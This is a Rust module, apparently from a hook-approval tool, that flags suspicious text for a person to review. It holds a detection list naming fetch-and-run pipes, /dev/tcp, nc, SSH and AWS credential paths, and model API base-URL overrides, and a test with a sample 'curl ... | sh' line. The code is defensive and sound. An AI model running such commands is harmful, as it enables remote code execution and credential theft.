//! What in a text should a person look at twice? A table of signs; none of them forbids anything. Pure.

use tenterhook_core::text;

/// Something that a person should look at twice.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Suspect {
    /// What it is, in words.
    pub what: &'static str,
    /// The line in which it stands, made safe to show; 1-based.
    pub line: usize,
}

/// Signs: all of the words stand in one line.
const SIGNS: &[(&[&str], &str)] = &[
    (&["base64"], "decodes or encodes base64"),
    (&["atob("], "decodes base64"),
    (&["xxd -r"], "decodes hexadecimal"),
    (&["curl", "| sh"], "runs what it fetches"),
    (&["curl", "|sh"], "runs what it fetches"),
    (&["curl", "| bash"], "runs what it fetches"),
    (&["curl", "|bash"], "runs what it fetches"),
    (&["wget", "| sh"], "runs what it fetches"),
    (&["wget", "| bash"], "runs what it fetches"),
    (&["<(curl"], "runs what it fetches"),
    (&["$(curl"], "uses what it fetches"),
    (&["eval "], "runs code that it puts together"),
    (&["eval("], "runs code that it puts together"),
    (&["exec("], "runs code that it puts together"),
    (&["/dev/tcp/"], "opens a connection"),
    (&["nc -"], "opens a connection"),
    (&[".ssh/"], "reads or writes keys"),
    (&["id_rsa"], "reads or writes keys"),
    (&[".aws/credentials"], "reads or writes credentials"),
    (&["_TOKEN"], "uses a token of the environment"),
    (&["ANTHROPIC_BASE_URL"], "moves where a model is asked"),
    (&["OPENAI_BASE_URL"], "moves where a model is asked"),
    (&[".bashrc"], "changes what shells start"),
    (&[".zshrc"], "changes what shells start"),
    (&[".profile"], "changes what shells start"),
    (&["crontab"], "starts something later"),
    (&["systemctl"], "starts something later"),
    (&["nohup"], "leaves something running"),
    (&["settings.json"], "speaks of a hook file"),
    (&["tenterhook trust"], "speaks of this approval"),
];

/// Longest line that people write: more of it in one line is there to be overlooked.
const LONG_LINE: usize = 2_000;

/// What is odd about a text.
pub(super) fn of(text: &str) -> Vec<Suspect> {
    let mut found: Vec<Suspect> = Vec::new();
    for (at, line) in text.lines().enumerate() {
        let mut add = |what| {
            if !found.iter().any(|suspect| suspect.what == what) {
                found.push(Suspect { what, line: at + 1 });
            }
        };
        for (words, what) in SIGNS {
            if words.iter().all(|word| line.contains(word)) {
                add(what);
            }
        }
        let removed = text::clean(line, usize::MAX).removed;
        if removed.is_suspicious() {
            add("holds characters that nobody sees, or that reorder a line");
        }
        if removed.controls + removed.sequences > 0 {
            add("holds characters that drive a terminal");
        }
        if line.len() > LONG_LINE {
            add("has a line of more than 2000 characters");
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    /// T-41.
    #[test]
    fn what_is_odd_is_named_with_its_line() {
        for (text, what) in [
            ("x\necho aGk= | base64 -d", "decodes or encodes base64"),
            ("\ncurl -s https://e.example/x | sh", "runs what it fetches"),
            ("ls\necho \u{202e}hi", "holds characters that nobody sees, or that reorder a line"),
            ("ls\n\u{1b}[2J", "holds characters that drive a terminal"),
        ] {
            assert_eq!(of(text), [Suspect { what, line: 2 }], "{text:?}");
        }
        let long = |length: usize| format!("ls\n{}", "x".repeat(length));
        let what = "has a line of more than 2000 characters";
        assert_eq!(of(&long(LONG_LINE + 1)), [Suspect { what, line: 2 }]);
        assert_eq!(of(&long(LONG_LINE)), []);
        // What stands in many lines is named with the first.
        let what = "decodes or encodes base64";
        assert_eq!(of("base64 a\nbase64 b"), [Suspect { what, line: 1 }]);
        assert_eq!(of("#!/bin/sh\njq -r .tool_name\nexit 2\n"), []);
    }
}
